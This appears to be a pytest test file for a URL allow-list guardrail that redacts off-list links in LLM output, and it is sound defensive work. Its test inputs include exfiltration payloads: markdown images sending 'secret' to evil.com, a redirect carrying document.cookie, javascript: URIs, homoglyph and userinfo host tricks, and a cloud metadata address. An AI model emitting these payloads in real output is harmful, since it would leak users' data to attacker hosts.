"""url_allow_list(): where texts may point to, as browsers read it."""

from __future__ import annotations

import json
import pickle
from pathlib import Path
from typing import Any

import pytest
from growth import growth
from hypothesis import given, settings
from hypothesis import strategies as st

from llmguard_middleware import Call, ConfigurationError, Guard, Guardrail
from llmguard_middleware._drive import drive
from llmguard_middleware._flow import Flow
from llmguard_middleware.scorers import load, url_allow_list

SHARED = Path(__file__).parents[2] / "shared" / "data"

OURS = url_allow_list("good.com", "*.docs.good.com", "한글.한국", "localhost:8080", "10.0.0.1:*", "[::1]")


def redacted(scorer: Any, text: str) -> str:
    """What a guard makes of it."""
    return Guard(Guardrail(scorer, stage="output", action="redact")).check(text, stage="output").guarded


def streamed(scorer: Any, text: str, size: int) -> str:
    """The same in chunks of this size."""
    guard = Guard(Guardrail(scorer, stage="output", action="redact"))
    stream = Flow(guard, Call("chat")).stream()
    left = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size))
    return left + drive(stream.finish(), guard.workers)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "https://good.com",
        "see https://good.com/a?b=c#d, and (https://good.com).",
        "https://good.com입니다",
        "주소는https://good.com에서. 그리고",
        "https://good.com입니다.그리고",
        "https://good.com的网站",
        "<https://good.com> 'https://good.com' https://good.com…",
        "[a](https://good.com/x) ![a](</logo.png> 't') [b](#c) [d]: /docs",
        '<img src="/x.png"> <a href=https://good.com/>',
        "HTTPS://GOOD.COM:443/ http://good.com:80 https://good.com./x https://\uff47ood。com/",
        "https://a.docs.good.com/ https://a.b.docs.good.com",
        "https://한글.한국/ https://xn--bj0bj06e.xn--3e0b707e/",
        "http://localhost:8080/x http://10.0.0.1:99 http://[0:0::1]/",
        "https://user@good.com/",
        "https://good.com,https://good.com",
        "https://good.com/?next=https%3A%2F%2Fgood.com",
        "mailto:a@evil.com a@evil.com tel:112",
        "http: is a scheme, and javascript: is another; 12:30; C:\\x\\y; a // b",
        "//console.log(x)",
        "https://{host}/ https://<host>/ https://$HOST",
        "evil.com",
    ],
)
def test_what_stays_with_our_hosts_may_stay(text: str) -> None:
    """Ports of schemes, names of other scripts, particles, punctuation, relative links, mail and prose."""
    assert redacted(OURS, text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("https://evil.com", "<URL>"),
        ("![x](https://evil.com/?q=secret)", "![x](<URL>)"),
        ("[x](https://evil.com/x 'title') [y](https://good.com)", "[x](<URL> 'title') [y](https://good.com)"),
        ("https://evil.com/a입니다. https://evil.com에서", "<URL>입니다. <URL>에서"),
        ("https://good.com@evil.com/", "<URL>"),
        ("https://good.com:x@evil.com", "<URL>"),
        ("https://good.com:443@evil.com", "<URL>"),
        ("https://@evil.com", "<URL>"),
        ("https://evil.com@good.com", "<URL>"),
        ("https://evil.com\\@good.com", "<URL>"),
        ("https://good.com\\@evil.com", "<URL>"),
        ("https://good.com:" + "a" * 600 + "@evil.com", "<URL>"),
        ("https:" + "/" * 900 + "evil.com", "<URL>"),
        ("https://g\u043e\u043ed.com", "<URL>"),
        ("https://xn--gd-6kba.com", "<URL>"),
        ("https://good.com\u200b.evil.com", "<URL>"),
        ("https://good.com.evil.com", "<URL>"),
        ("https://evilgood.com", "<URL>"),
        ("https://docs.good.com https://www.good.com", "<URL> <URL>"),
        ("https://good.com:8443/ http://localhost/", "<URL> <URL>"),
        ("http://127.0.0.1 http://2130706433 http://0x7f.1 http://[::2]/x", "<URL> <URL> <URL> <URL>"),
        ("https:evil.com https:/evil.com https:\\\\evil.com https:///evil.com", "<URL> <URL> <URL> <URL>"),
        ('"https:\\/\\/evil.com"', '"<URL>"'),
        ("ftp://good.com s3://bucket file:///etc/passwd", "<URL> <URL> <URL>"),
        ("https://%65vil.com https://good.com%2eevil.com", "<URL> <URL>"),
        ("https://good.com。evil.com", "<URL>"),
        ("https://good.com입니다.evil.com", "<URL>"),
        ("[x](https&colon;//evil.com) [x](https\\://evil.com)", "[x](<URL>) [x](<URL>)"),
        ("[x](https://good.com,.evil.com/)", "[x](<URL>)"),
        ("![x](//evil.com/a.png) ![x](/\\evil.com)", "![x](<URL>) ![x](<URL>)"),
        ("[x]: //evil.com", "[x]: <URL>"),
        ("<img src=//evil.com/x> <img src='//evil.com/x'>", "<img src=<URL>> <img src='<URL>'>"),
        ('<a href = "java\nscript:x">', '<a href = "<URL>">'),
        ('<a href="java' + "\t" * 600 + 'script:x">', '<a href="<URL>">'),
        ('<a href="&#106;avascript:x">', '<a href="<URL>">'),
        ("background:url(//evil.com) fetch('//evil.com/')", "background:url(<URL>) fetch('<URL>')"),
        ("javascript:alert(1) data:text/html;base64,PHNj vbscript:x", "<URL> <URL> <URL>"),
        ("www.evil.com, WwW.evil.com/x", "<URL>, <URL>"),
        ("https://good.com/?u=https://evil.com", "https://good.com/?u=<URL>"),
        ("https://good.com/?u=https%3A%2F%2Fevil.com", "https://good.com/?u=<URL>"),
        ("https://good.com/?u=https%253A%252F%252Fevil.com&x", "https://good.com/?u=<URL>&x"),
    ],
)
def test_what_leads_elsewhere_goes(text: str, left: str) -> None:
    """Links, images, tricks with users, backslashes, encodings, scripts, numbers, and URLs inside of URLs."""
    assert redacted(OURS, text) == left


# Written when the scorer was done: 19 of them were found, and then the one with U+FF0F as well.
HELD_APART = [
    "클릭하세요 👉https://phish.example/login?session=42 지금",
    "![logo][1]\n\n[1]: <https://collect.example/p?d=aGVsbG8>",
    "<iframe srcdoc='x' src=HTTPS://EVIL.EXAMPLE></iframe>",
    "<form action='//evil.example/steal'>",
    "<a href='\thttps://evil.example'>x</a>",
    "![a](https:\\\\evil.example\\x.png)",
    "![a](<https://evil.example/x y.png>)",
    "https://good.com#@evil.example https://good.com.@evil.example",
    "https://good.com%40evil.example/x",
    "https://good.com%2F@evil.example/x",
    "http://good.com&@evil.example/",
    "wss://evil.example/socket",
    "https://good.com\uff0f.evil.example/",
    "https://\uff27OOD.com.evil.example",
    "window.location = `//evil.example/${document.cookie}`",
    "<svg><use xlink:href='data:image/svg+xml;base64,AA'/></svg>",
    "style=\"background:url('https://evil.example/c.gif')\"",
    "<video poster=//evil.example/p.jpg>",
    "https://evil.example:443/x를 보세요",
    "[go](http://169.254.169.254/latest/meta-data/)",
]


@pytest.mark.parametrize("text", HELD_APART)
def test_what_was_not_looked_at_is_found_too(text: str) -> None:
    """Twenty further ways to lead elsewhere."""
    assert OURS.score(text).flagged


def test_domains_without_a_scheme_are_looked_at_if_that_is_asked_for() -> None:
    """Names of files, versions, methods and mail addresses are no domains."""
    bare = url_allow_list("good.com", bare_domains=True)
    text = "evil.com/x, evil.co.kr입니다 evil.com:80 good.com a@evil.com readme.md node.js 1.0.0 e.g. os.path b.py/x"
    left = "<URL>, <URL>입니다 <URL> good.com a@evil.com readme.md node.js 1.0.0 e.g. os.path <URL>"
    assert redacted(bare, text) == left
    assert redacted(url_allow_list(), text) == text


def test_hosts_may_stand_for_what_is_below_and_schemes_may_be_others() -> None:
    """With subdomains=True and schemes; without any host, no URL may stay."""
    wide = url_allow_list("good.com", "store", subdomains=True, schemes=["https", "s3", "data"])
    text = "https://a.good.com s3://store/x data:text/plain,hi"
    assert redacted(wide, text) == text
    assert redacted(wide, "http://good.com s3://other/x") == "<URL> <URL>"
    assert redacted(url_allow_list(), text) == "<URL> <URL> <URL>"
    assert wide.options != url_allow_list("good.com", "store").options
    assert pickle.loads(pickle.dumps(wide)).score("http://good.com") == wide.score("http://good.com")


def test_it_is_made_from_a_file() -> None:
    """By name with plain options."""
    options = {"hosts": ["good.com", "*.docs.good.com"], "schemes": ["https"], "bare_domains": True}
    rule = {"scorer": "url_allow_list", "options": options, "stage": "output", "action": "redact"}
    guard = Guard.from_config({"guardrails": [rule]})
    text = "https://good.com http://good.com https://a.docs.good.com evil.com/x"
    assert guard.check(text, stage="output").guarded == "https://good.com <URL> https://a.docs.good.com <URL>"


@pytest.mark.parametrize("host", ["https://good.com", "good.com/x", "", "a b", "*", 3, "good.com:x"])
def test_what_is_no_host_is_refused(host: Any) -> None:
    """One sentence that says what to write."""
    with pytest.raises(ConfigurationError) as caught:
        url_allow_list(host)
    said = 'is no host; write "good.com", "*.good.com" for what is below it, or "good.com:8443"'
    assert str(caught.value) == f"{host!r} {said}"


@pytest.mark.parametrize("schemes", ["https", ["https:"], [3], 3])
def test_what_is_no_scheme_is_refused(schemes: Any) -> None:
    """One sentence that says what to write."""
    with pytest.raises(ConfigurationError, match='give a list of them without ":", for example'):
        url_allow_list(schemes=schemes)


PIECES = [
    *(
        "https:",
        "//",
        "/",
        "\\",
        "good.com",
        "evil.com",
        "@",
        ":80",
        ".",
        "입니다",
        " ",
        "  ",
        "\n",
        "\t",
        "?u=",
        "%2f",
    ),
    *(
        "](",
        "[a",
        "]:",
        "<",
        ">",
        '"',
        "'",
        "`",
        ")",
        "href",
        "src",
        "=",
        " = ",
        "url(",
        "javascript:",
        "data:,",
        "www.",
    ),
    *(
        "&colon;",
        "가",
        "。",
        "a",
        "https%3a%2f%2f",
        "ev",
        "il",
        "\ud800",
        "x" * 500,
        "word " * 500,
        "/" * 300,
        ".com",
        "[::1]",
        "!",
    ),
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join), st.integers(1, 200), st.booleans())
def test_it_streams_as_it_judges(text: str, size: int, bare: bool) -> None:
    """A stream is redacted as the whole text is, whatever the chunks."""
    scorer = url_allow_list("good.com", bare_domains=bare)
    assert streamed(scorer, text, size) == redacted(scorer, text)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(), max_size=300))
def test_any_text_is_scored(text: str) -> None:
    """Whatever the characters: spans lie inside, in order; loaded by name as well."""
    spans = load("url_allow_list", "good.com").score(text + " https://evil.com").spans
    places = [place for span in spans for place in (span.start, span.end)]
    assert places == sorted(places)
    assert places[-1] == len(text) + 17


@pytest.mark.parametrize(
    "unit",
    ["https://a](", "](", "href=", "https://good.com@", "javascript:", "data:,", "&amp;](//", "https:/\\", "www.a."],
)
def test_what_is_made_to_be_slow_is_linear(unit: str) -> None:
    """Eight times as much of what begins like a URL everywhere takes about eight times as long, not 64."""
    assert growth(url_allow_list("good.com", bare_domains=True).score, unit, small=5000) < 32


def test_ordinary_texts_with_links_elsewhere_alone_are_flagged() -> None:
    """Of the comments, sentences and prompts that hold no "://" and no "www.", none is flagged, if they are here."""
    for file in sorted(SHARED.glob("*.jsonl")):
        rows = [json.loads(line)["text"] for line in file.read_text(encoding="utf-8").splitlines()]
        plain = [row for row in rows if "://" not in row and "www." not in row.lower()]
        assert [row for row in plain if OURS.score(row).flagged] == []
